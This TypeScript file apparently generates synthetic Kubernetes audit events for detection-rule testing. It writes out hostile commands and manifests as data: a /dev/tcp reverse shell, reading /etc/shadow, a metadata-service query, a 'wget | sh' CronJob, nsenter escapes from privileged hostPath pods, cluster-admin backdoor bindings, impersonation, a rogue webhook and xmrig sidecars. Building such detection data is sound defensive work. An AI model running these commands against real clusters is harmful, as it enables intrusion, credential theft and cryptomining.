/**
 * SYNTHETIC DATA. Attack-like requests, a small fraction of the mix so that detection rules fire:
 * privileged / host-namespace / hostPath pods, exec with shell commands, cluster-admin bindings,
 * events deletion, secret enumeration, token requests, impersonation, webhooks, cronjobs...
 */
import { type Actor, anonymous, attackerIps, attackerUas, defaultSa } from './synth-actors.js';
import { bindingObject, podObject } from './synth-objects.js';
import { appNamespaces, type Scenario, type Synth } from './synth-request.js';

// ---- attack-like ----------------------------------------------------------------------------

function intruder(g: Synth): Actor {
  const r = g.r;
  const base = r.chance(0.5) ? r.pick(g.people) : defaultSa;
  return { ...base, userAgents: attackerUas, ipPrefixes: r.chance(0.5) ? attackerIps : base.ipPrefixes };
}
const attackPrivilegedPod: Scenario = (g) => {
  const r = g.r;
  const ns = r.chance(0.4) ? 'kube-system' : r.pick(appNamespaces);
  const name = g.podName(r.pick(['debugger', 'node-shell', 'xmrig', 'busybox']));
  const kind = r.int(5);
  const obj = podObject(r, {
    name,
    namespace: ns,
    image: r.pick(['docker.io/library/alpine:3.19', 'ubuntu:22.04', 'docker.io/xmrig/xmrig:latest']),
    privileged: kind === 0 || kind === 4,
    capabilities: kind === 1 ? ['SYS_ADMIN', 'NET_ADMIN'] : undefined,
    hostNetwork: kind === 2 || kind === 4,
    hostPID: kind === 3 || kind === 4,
    hostIPC: kind === 4,
    hostPath: kind === 2 || kind === 4 ? r.pick(['/', '/etc', '/var/run/docker.sock', '/proc']) : undefined,
    command: ['nsenter', '--target', '1', '--mount', '--uts', '--ipc', '--net', '--pid', '--', 'bash'],
  });
  return g.req(
    intruder(g),
    'create',
    { resource: 'pods', namespace: ns },
    { level: 'RequestResponse', requestObject: obj, responseObject: obj, tag: 'privileged-pod' },
  );
};
const execCommands = [
  ['sh'],
  ['/bin/bash'],
  ['sh', '-c', 'id'],
  ['cat', '/etc/shadow'],
  ['sh', '-c', 'curl -s -H Metadata:true http://169.254.169.254/metadata/instance?api-version=2021-02-01'],
  ['/bin/sh', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'],
  ['ls', '-la', '/var/run/secrets/kubernetes.io/serviceaccount'],
  ['/usr/bin/wget', 'https://203.0.113.9/x.sh'],
];
const attackExec: Scenario = (g) => {
  const r = g.r;
  const ns = r.chance(0.35) ? 'kube-system' : r.pick(appNamespaces);
  const cmd = r.pick(execCommands);
  const query = `${cmd.map((c) => `command=${encodeURIComponent(c)}`).join('&')}&container=app&stdin=true&stdout=true&tty=${r.chance(0.5)}`;
  const name =
    ns === 'kube-system'
      ? g.podName(r.pick(['coredns', 'konnectivity-agent', 'tunnelfront', 'kube-proxy']))
      : g.podName();
  const actor = r.chance(0.3) ? r.pick(g.people) : intruder(g);
  return {
    ...g.req(actor, 'create', { resource: 'pods', namespace: ns, name, subresource: 'exec', query }),
    code: 101,
    tag: 'exec',
  };
};
const attackClusterAdmin: Scenario = (g) => {
  const r = g.r;
  const name = r.pick(['backdoor-admin', 'tmp-debug-binding', 'ops-access', 'system:kube-proxy-admin']);
  const subject = r.chance(0.5)
    ? { kind: 'ServiceAccount' as const, name: 'default', namespace: r.pick(appNamespaces) }
    : { kind: 'User' as const, name: r.pick(g.people).username };
  const obj = bindingObject('ClusterRoleBinding', name, undefined, 'cluster-admin', [subject]);
  return g.req(
    intruder(g),
    'create',
    { resource: 'clusterrolebindings' },
    { level: 'RequestResponse', requestObject: obj, responseObject: obj, tag: 'cluster-admin-binding' },
  );
};
const attackEventsDelete: Scenario = (g) =>
  g.req(
    intruder(g),
    'delete',
    {
      resource: 'events',
      namespace: g.r.chance(0.5) ? 'kube-system' : g.r.pick(appNamespaces),
      name: `${g.podName()}.${g.r.hex(16)}`,
    },
    { tag: 'events-delete' },
  );
const attackSecretsList: Scenario = (g) =>
  g.req(
    intruder(g),
    'list',
    { resource: 'secrets', namespace: g.r.chance(0.5) ? 'kube-system' : undefined, query: 'limit=500' },
    { tag: 'secrets-list' },
  );
const attackTokenRequest: Scenario = (g) =>
  g.req(
    intruder(g),
    'create',
    {
      resource: 'serviceaccounts',
      namespace: 'kube-system',
      name: g.r.pick(['default', 'clusterrole-aggregation-controller', 'namespace-controller']),
      subresource: 'token',
    },
    { tag: 'token-request' },
  );
const attackServiceAccount: Scenario = (g) =>
  g.req(
    intruder(g),
    'create',
    { resource: 'serviceaccounts', namespace: g.r.pick(['kube-system', 'default']) },
    {
      level: 'RequestResponse',
      requestObject: {
        kind: 'ServiceAccount',
        apiVersion: 'v1',
        metadata: { name: 'svc-helper', namespace: 'kube-system' },
      },
      tag: 'serviceaccount-create',
    },
  );
const attackAnonymousAllowed: Scenario = (g) => ({
  ...g.req(anonymous, g.r.pick(['get', 'list']), {
    resource: g.r.pick(['pods', 'namespaces', 'configmaps']),
    namespace: 'default',
  }),
  reason:
    'RBAC: allowed by ClusterRoleBinding "anonymous-view" of ClusterRole "view" to User "system:anonymous"',
  tag: 'anonymous-allowed',
});
const attackCronJob: Scenario = (g) => {
  const obj = {
    kind: 'CronJob',
    apiVersion: 'batch/v1',
    metadata: { name: 'log-rotate', namespace: 'kube-system' },
    spec: {
      schedule: '*/5 * * * *',
      jobTemplate: {
        spec: {
          template: {
            spec: {
              containers: [
                {
                  name: 'c',
                  image: 'alpine:3.19',
                  command: ['sh', '-c', 'wget -qO- http://203.0.113.9/m | sh'],
                },
              ],
              restartPolicy: 'OnFailure',
            },
          },
        },
      },
    },
  };
  return g.req(
    intruder(g),
    'create',
    { resource: 'cronjobs', namespace: 'kube-system' },
    { level: 'RequestResponse', requestObject: obj, tag: 'cronjob-create' },
  );
};
const attackWebhook: Scenario = (g) =>
  g.req(
    intruder(g),
    g.r.pick(['create', 'patch']),
    { resource: 'mutatingwebhookconfigurations', name: 'pod-policy.contoso.io' },
    {
      level: 'RequestResponse',
      requestObject: {
        kind: 'MutatingWebhookConfiguration',
        apiVersion: 'admissionregistration.k8s.io/v1',
        metadata: { name: 'pod-policy.contoso.io' },
        webhooks: [
          {
            name: 'pod-policy.contoso.io',
            clientConfig: { url: 'https://203.0.113.5/mutate' },
            rules: [{ operations: ['CREATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['pods'] }],
          },
        ],
      },
      tag: 'webhook-change',
    },
  );
const attackImpersonation: Scenario = (g) =>
  g.req(
    intruder(g),
    'get',
    { resource: 'secrets', namespace: 'kube-system', name: 'bootstrap-token-abcdef' },
    { impersonate: { username: 'system:admin', groups: ['system:masters'] }, tag: 'impersonation' },
  );
const attackEphemeral: Scenario = (g) =>
  g.req(
    intruder(g),
    'patch',
    {
      resource: 'pods',
      namespace: g.r.pick(appNamespaces),
      name: g.podName(),
      subresource: 'ephemeralcontainers',
    },
    {
      level: 'RequestResponse',
      requestObject: {
        spec: {
          ephemeralContainers: [
            {
              name: 'debugger-x7k2p',
              image: 'busybox:1.36',
              stdin: true,
              tty: true,
              targetContainerName: 'app',
            },
          ],
        },
      },
      tag: 'ephemeral-container',
    },
  );
const attackRbacListing: Scenario = (g) =>
  g.req(
    {
      ...intruder(g),
      userAgents: [
        'access_matrix/v0.5.0 (linux/amd64) kubernetes/$Format',
        'kubectl/v1.20.0 (linux/amd64) kubernetes/af46c47',
      ],
    },
    'create',
    { resource: 'selfsubjectrulesreviews' },
    {
      level: 'RequestResponse',
      requestObject: {
        kind: 'SelfSubjectRulesReview',
        apiVersion: 'authorization.k8s.io/v1',
        spec: { namespace: 'kube-system' },
      },
      tag: 'rbac-listing',
    },
  );
const attackDeploymentDelete: Scenario = (g) =>
  g.req(
    intruder(g),
    'delete',
    {
      resource: 'deployments',
      namespace: g.r.pick(appNamespaces),
      name: g.r.pick(['checkout', 'payments-api']),
    },
    { tag: 'deployment-delete' },
  );
const attackSidecarPatch: Scenario = (g) =>
  g.req(
    intruder(g),
    'patch',
    { resource: 'deployments', namespace: g.r.pick(appNamespaces), name: g.r.pick(['checkout', 'frontend']) },
    {
      level: 'RequestResponse',
      requestObject: {
        spec: {
          template: {
            spec: { containers: [{ name: 'metrics-sidecar', image: 'docker.io/xmrig/xmrig:latest' }] },
          },
        },
      },
      tag: 'sidecar-injection',
    },
  );

/** Attack-like scenarios with their weights (relative frequencies). */
export const attackScenarios: readonly (readonly [number, Scenario])[] = [
  [10, attackPrivilegedPod],
  [14, attackExec],
  [5, attackClusterAdmin],
  [5, attackEventsDelete],
  [6, attackSecretsList],
  [4, attackTokenRequest],
  [3, attackServiceAccount],
  [4, attackAnonymousAllowed],
  [3, attackCronJob],
  [2, attackWebhook],
  [3, attackImpersonation],
  [2, attackEphemeral],
  [3, attackRbacListing],
  [2, attackDeploymentDelete],
  [2, attackSidecarPatch],
];
